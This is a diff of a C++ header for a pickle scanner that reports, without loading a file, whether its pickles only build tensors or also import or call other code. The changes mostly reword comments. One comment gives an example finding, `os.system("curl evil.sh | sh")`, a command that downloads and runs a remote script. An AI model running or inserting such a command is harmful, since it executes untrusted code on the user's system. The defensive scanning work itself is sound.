@@ -1,4 +1,4 @@
-// What a file would do if a real unpickler loaded it. Looks everywhere that a loader might; believes nothing.
+// Reports what loading a file would execute, without loading it.
 #pragma once
 
 #include <filesystem>
@@ -13,23 +13,23 @@
 namespace depickle::scan {
 
 enum class Verdict {
-  tensors_only,  ///< every global is on the closed list of those that build tensors and plain containers
-  has_code,      ///< it names or calls something else
-  unreadable,    ///< it could not be read to the end, and what could be read names nothing else
+  tensors_only,  ///< every global is on the closed list: it only builds tensors and plain containers
+  has_code,      ///< a pickle imports or calls something else
+  unreadable,    ///< the file could not be read to the end; the part that was read has no findings
 };
-/// "tensors-only", "has-code", "unreadable".
+/// Returns "tensors-only", "has-code" or "unreadable".
 std::string_view name(Verdict verdict) noexcept;
 
-/// Something that loading would do beyond building tensors.
+/// An action of the unpickler other than building tensors and plain containers.
 struct Finding {
-  std::string record;     ///< "archive/data.pkl"; empty where the file is the pickle
-  uint64_t offset_bytes;  ///< of the opcode, from the record's start
+  std::string record;     ///< "archive/data.pkl"; empty if the file itself is the pickle
+  uint64_t offset_bytes;  ///< of the opcode, from the start of the record
   std::string what;       ///< `os.system("curl evil.sh | sh")`
-  std::string words;      ///< "runs a command"
-  uint64_t count;         ///< how often, where the same thing is done many times
+  std::string effect;     ///< "runs a command"
+  uint64_t count;         ///< how often the same action is done
 };
 
-/// A global that a pickle names.
+/// A global that a pickle imports.
 struct NamedGlobal {
   std::string record;
   std::string name;
@@ -42,18 +42,18 @@ struct Scan {
   Verdict verdict = Verdict::unreadable;
   std::vector<Finding> findings;     ///< at most 1000
   std::vector<NamedGlobal> globals;  ///< at most 10,000
-  uint64_t pickles = 0;              ///< pickles that were looked into
-  uint64_t looked_bytes = 0;         ///< bytes of pickles that were looked at, each as often as it was
-  std::optional<Error> error;        ///< why the file cannot be read to the end
+  uint64_t pickles = 0;              ///< pickles that were audited
+  uint64_t audited_bytes = 0;        ///< sum of their sizes; bytes that were audited twice count twice
+  std::optional<Error> error;        ///< why the file could not be read to the end
   std::vector<std::string> notes;
 };
 
-/// Looks into every pickle of a file. Never throws because of the file's content. A zip whose directory cannot be trusted is
-/// searched for records byte by byte.
+/// Audits every pickle of a file. Never throws because of the file's content. If the directory of a zip archive is
+/// damaged or contradictory, searches the whole file for records.
 Scan scan_pickles(std::shared_ptr<const ByteSource> file);
 
-/// scan_pickles() of a file; one that it calls tensors-only is also read as a table to the end: a file whose pickle is harmless but
-/// whose storages are not what they claim is unreadable. Throws Error{not_found, io} if the file cannot be opened.
+/// Calls scan_pickles(), then reads a file without findings as a table: it is unreadable if its pickle is harmless
+/// but its storages are invalid. Throws Error{not_found, io} if the file cannot be opened.
 Scan scan(const std::filesystem::path& path);
 Scan scan(std::shared_ptr<const ByteSource> file);
 
